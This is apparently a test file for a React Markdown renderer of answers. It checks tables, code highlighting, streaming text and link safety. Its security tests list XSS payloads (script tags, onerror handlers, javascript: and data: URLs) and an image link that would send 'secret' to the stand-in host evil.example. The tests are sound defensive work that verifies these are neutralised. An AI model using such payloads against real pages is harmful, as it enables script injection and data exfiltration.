import { cleanup, render } from "@testing-library/react"
import { afterEach, describe, expect, it } from "vitest"
import { RichMarkdown } from "./rich-markdown"

afterEach(cleanup)
const draw = (text: string, isOpen = false) => render(<RichMarkdown text={text} isOpen={isOpen} />).container

describe("answers as Markdown", () => {
  it("draws tables with their alignment, lists and coloured code", () => {
    const page = draw("| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n- one\n\n```sql\nselect 1;\n```")
    expect(page.querySelectorAll("td")[1]?.className).toContain("text-right")
    expect(page.querySelector("li")?.textContent).toBe("one")
    expect(page.querySelector("pre .hljs-keyword")?.textContent).toBe("select")
  })

  it("loads no image: its address could carry words away", () => {
    const page = draw("![secret](https://evil.example/?q=secret)")
    expect(page.querySelector("img")).toBeNull()
    expect(page.textContent).toContain("Image: secret")
    expect(page.innerHTML).not.toContain("evil.example")
  })

  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<div style='position:fixed' onclick='alert(1)'>x</div>",
    "<svg><script>alert(1)</script></svg>",
    "<form action='https://evil.example'><input></form>",
    "<style>body{display:none}</style>",
  ])("takes the harm out of %s", (text) => {
    const page = draw(text)
    expect(page.querySelector("script, iframe, img, form, style, svg script, object, embed")).toBeNull()
    for (const element of page.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name.startsWith("on")).toBe(false)
        expect(value).not.toMatch(/javascript:|data:text/i)
      }
      expect(element.getAttribute("style")).toBeNull()
    }
  })

  it("opens links elsewhere without telling where from", () => {
    const link = draw("[docs](https://example.com/a)").querySelector("a")
    expect(link?.getAttribute("href")).toBe("https://example.com/a")
    expect(link?.rel).toContain("noopener")
    expect(link?.getAttribute("referrerpolicy")).toBe("no-referrer")
  })

  it("draws half a construct sensibly while it flows", () => {
    expect(draw("some **bold tex", true).querySelector("strong")?.textContent).toBe("bold tex")
    expect(draw("```sql\nselect", true).querySelector("pre")?.textContent).toContain("select")
  })
})
